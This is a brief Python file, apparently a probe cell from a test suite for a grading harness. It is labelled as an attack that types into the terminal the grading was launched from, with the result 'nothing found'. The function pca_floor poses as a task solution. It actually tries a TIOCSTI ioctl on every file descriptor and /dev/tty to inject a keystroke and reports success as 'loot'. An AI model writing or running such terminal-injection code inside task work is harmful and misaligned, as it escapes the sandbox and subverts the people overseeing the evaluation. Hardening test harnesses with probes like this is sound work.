# attack: types a command into the terminal that the grading was started from
# cell: task-1-3
# reason: nothing found
import fcntl
import os
import termios


def pca_floor(images, k):
    descriptors = list(range(256))
    try:
        descriptors.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for descriptor in descriptors:
        try:
            fcntl.ioctl(descriptor, termios.TIOCSTI, b" ")
            raise RuntimeError(f"loot: a key was typed into descriptor {descriptor}")
        except OSError:
            pass
    raise RuntimeError("nothing found")
